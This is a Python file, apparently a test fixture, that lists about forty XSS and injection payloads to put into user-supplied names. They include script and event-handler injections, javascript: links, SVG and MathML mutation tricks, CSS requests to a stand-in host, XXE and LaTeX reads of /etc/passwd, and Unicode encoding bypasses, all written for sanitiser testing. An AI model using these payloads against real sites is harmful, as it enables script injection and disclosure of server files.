# ruff: noqa: E501
"""What strangers may write into a name so that a page which shows it runs, asks for or hides something.

No payload does more than set `fired`, open a dialog, or ask for an address that does not exist.
"""

FIRE = "window.fired=1"
ASK = "//evil.example/x"

PAYLOADS = {
    "script": f"<script>{FIRE}</script>",
    "end of an element": f"</td></tr></table></title></style></textarea><script>{FIRE}</script>",
    "end of JSON in a script": f"</script><script>{FIRE}</script><!--<script>",
    "end of text in a script": f"\\u003c/script\\u003e'+({FIRE})+'",
    "line separators": f"\u2028{FIRE}\u2029//",
    "image": f"<img src=x onerror={FIRE}>",
    "attribute in quotes": f'" onmouseover="{FIRE}" autofocus onfocus="{FIRE}" x="',
    "attribute in single quotes": f"' onmouseover='{FIRE}' style='animation:x' onanimationstart='{FIRE}' x='",
    "attribute in back ticks": f"` onerror={FIRE} x=`",
    "link to a script": f"javascript:{FIRE}",
    "link in Markdown": f"[click](javascript:{FIRE}) ![x]({ASK}) <javascript:{FIRE}>",
    "link with breaks": f"java\tscript:{FIRE}",
    "link to data": f"data:text/html,<script>parent.{FIRE}</script>",
    "svg": f"<svg onload={FIRE}><script>{FIRE}</script></svg>",
    "foreign object": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={FIRE}>x</body>"
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe></foreignObject></svg>",
    "use and animate": f"<svg><a><animate attributeName=href values=javascript:{FIRE} /><text>x</text></a></svg>",
    "end of CDATA": f"]]></style><script>{FIRE}</script>",
    "entity": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&lt;script&gt;{FIRE}&lt;/script&gt;",
    "style": f"</style><style>@import '{ASK}';*{{background:url({ASK})}}</style>",
    "value of a style": f"red;background:url({ASK});}} * {{background:url({ASK})",
    "frame": f"<iframe src='javascript:parent.{FIRE}'></iframe><object data='{ASK}'></object><embed src='{ASK}'>",
    "base and refresh": f"<base href='{ASK}'><meta http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    "link element": f"<link rel=stylesheet href='{ASK}'><link rel=prefetch href='{ASK}'>",
    "form": f"<form action='javascript:{FIRE}'><button autofocus onfocus={FIRE}>x</button></form>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror={FIRE}>\">",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={FIRE}&gt;\">",
    "template": "{{7*7}}{%raw%}${7*7}<%=7*7%>#{7*7}",
    "template that runs": f"{{{{constructor.constructor('{FIRE}')()}}}}",
    "expression of Vega": f"datum['x'];[].constructor.constructor('{FIRE}')()",
    "field of Vega": f"a'].b\\.c[\"d\"] || ({FIRE})",
    "mathematics": r"$\href{javascript:window.fired=1}{x}$ $x^2 \frac{ \input{/etc/passwd}$",
    "direction": "\u202egnp.exe\u2066\u2067x\u2069\u200f\u061c",
    "names of prototypes": "__proto__",
    "null": f"<scr\0ipt>{FIRE}</scr\0ipt>",
    "wide": f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e",
    "seven bits": f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
}  # fmt: skip
